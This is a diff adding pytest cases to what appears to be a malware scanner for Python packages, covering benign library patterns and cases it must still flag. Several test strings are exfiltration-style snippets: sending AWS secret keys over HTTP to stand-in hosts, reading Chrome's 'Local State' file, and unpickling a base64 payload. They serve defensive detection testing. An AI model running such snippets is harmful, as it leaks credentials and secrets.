@@ -188,6 +188,13 @@ def test_ordinary_build_steps_are_not_alarms(src: str) -> None:
     assert package(src, setup=True) == set()
 
 
+def test_temp_directory_is_not_outside() -> None:
+    # ipython's get_ipython_dir at import: falls back to a fresh temp directory
+    src = "import os, tempfile\nd = os.path.expanduser('~/.x')\nif not os.access(d, os.W_OK):\n    d = tempfile.mkdtemp()\nos.makedirs(d, exist_ok=True)\n"
+    assert package(src) == set()
+    assert ("code-write-outside", 2) in package("import os\nos.makedirs('/opt/x')\n")
+
+
 def test_cross_module_call_graph() -> None:
     got = package("from .impl import go\ngo()\n", extra={
         "pkg/impl.py": "import os, requests\ndef go():\n    requests.post('u', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"})
@@ -217,3 +224,82 @@ def test_bounds_hold_on_hostile_exec_nesting() -> None:
     model(src)  # bounded recursion, no exception
     blob = "exec('" + "x" * (2 << 20) + "')\n"
     model(blob)
+
+
+def test_urllib3_patching_at_import_is_not_network() -> None:
+    # requests/__init__.py: the index's known false positive (pkg-network through contrib)
+    src = "try:\n    from urllib3.contrib import pyopenssl\n    pyopenssl.inject_into_urllib3()\nexcept ImportError:\n    pass\nimport urllib3\nurllib3.disable_warnings()\n"
+    assert package(src) == set()
+    assert ("code-import-network", 2) in package("import urllib3\nurllib3.PoolManager().request('GET', 'http://x')\n")
+
+
+def test_folded_identifiers_prefilter_keeps_every_look_alike() -> None:
+    from mlwarden.behaviour.parse import folded_identifiers
+
+    prose = "# caf\u00e9 \u2019quoted\u2019\nx = '\u00fcber'\n"
+    assert folded_identifiers(prose.encode()) == []
+    mixed = prose + "\uff45xec('1')\n"
+    assert folded_identifiers(mixed.encode()) == [(3, 1, "\uff45xec", "exec")]
+    # a non-UTF-8 coding cookie is honoured (latin-1 U+00AA folds to 'a')
+    latin = "# -*- coding: latin-1 -*-\nev\u00aal = 1\n".encode("latin-1")
+    assert folded_identifiers(latin) == [(2, 1, "ev\u00aal", "eval")]
+
+
+# Classes of false alarm found on the top-300 corpus (benchmarks/package_inspection.py).
+BENIGN_PACKAGE_CLASSES = [
+    # rich/ansi.py: a __main__ guard inside `and`
+    "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n",
+    # scikit-learn: joblib.load of a path; pickle.loads of a decompressed cache file
+    "import joblib\nm = joblib.load('/dev/null')\n",
+    "import pickle, codecs\ndef fetch(path):\n    with open(path, 'rb') as f:\n        data = f.read()\n    return pickle.loads(codecs.decode(data, 'zlib_codec'))\n",
+    # litellm: SQL that contains 'LOCAL STATE...'
+    "Q = 'SET LOCAL statement_timeout = 5'\n",
+    # paramiko: RtlMoveMemory is memcpy; msal_extensions: DPAPI for its own cache
+    "import ctypes\nmove = ctypes.windll.kernel32.RtlMoveMemory\n",
+    "import ctypes\nunprotect = ctypes.windll.crypt32.CryptUnprotectData\n",
+    # urllib3: binding ::1 to probe IPv6 support
+    "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::1', 0))\n",
+    # numpy.distutils, matplotlib: compiler and font probes at import
+    "import subprocess\np = subprocess.Popen(['gcc', '-print-multiarch'])\nfonts = subprocess.check_output(['fc-list', '--format=%{file}'])\n",
+]
+
+
+@pytest.mark.parametrize("src", BENIGN_PACKAGE_CLASSES)
+def test_benign_package_classes(src: str) -> None:
+    assert package(src) == set()
+
+
+def test_still_caught_beside_the_calibration() -> None:
+    assert ("code-exec-payload", 2) in package("import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAB9lC4='))\n")
+    assert package("Q = 'C:/Users/x/AppData/Local/Google/Chrome/User Data/Local State'\nopen(Q).read()\n")
+    assert ("code-import-network", 3) in package("import socket\ns = socket.socket()\ns.listen(1)\n")
+    assert package("import subprocess\nsubprocess.Popen(['curl', 'x'])\n")  # not a probe
+    # a secret read and a send in different functions of a module: not exfiltration
+    # (lxml's setup helpers); in the same function or a module-level read: exfiltration
+    split = "import os, urllib.request\ndef tok():\n    return os.environ.get('GITHUB_API_TOKEN')\ndef get(u):\n    return urllib.request.urlopen(u)\nget('https://x')\ntok()\n"
+    assert not any(r == "code-exfiltration" for r, _ in package(split))
+    joined = "import os, urllib.request\ndef go():\n    urllib.request.urlopen('https://x/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\ngo()\n"
+    assert ("code-exfiltration", 3) in package(joined)
+
+
+def test_install_time_touch_and_msvc_probes_are_build_steps() -> None:
+    src = "import subprocess\nfrom setuptools import setup\nsubprocess.run(['touch', 'configure.ac'])\nsubprocess.check_output('C:/VS (x86)/Installer/vswhere.exe -all')\nsetup()\n"
+    assert package(src, setup=True) == set()
+
+
+def test_parse_restores_the_collector() -> None:
+    import gc
+
+    from mlwarden.behaviour.parse import no_gc, parse
+
+    assert gc.isenabled()
+    parse(b"x = 1\n", "x.py")
+    parse(b"def (\n", "bad.py")  # a syntax error too
+    assert gc.isenabled()
+    gc.disable()
+    try:
+        with no_gc():
+            pass
+        assert not gc.isenabled()  # a caller's own choice is kept
+    finally:
+        gc.enable()
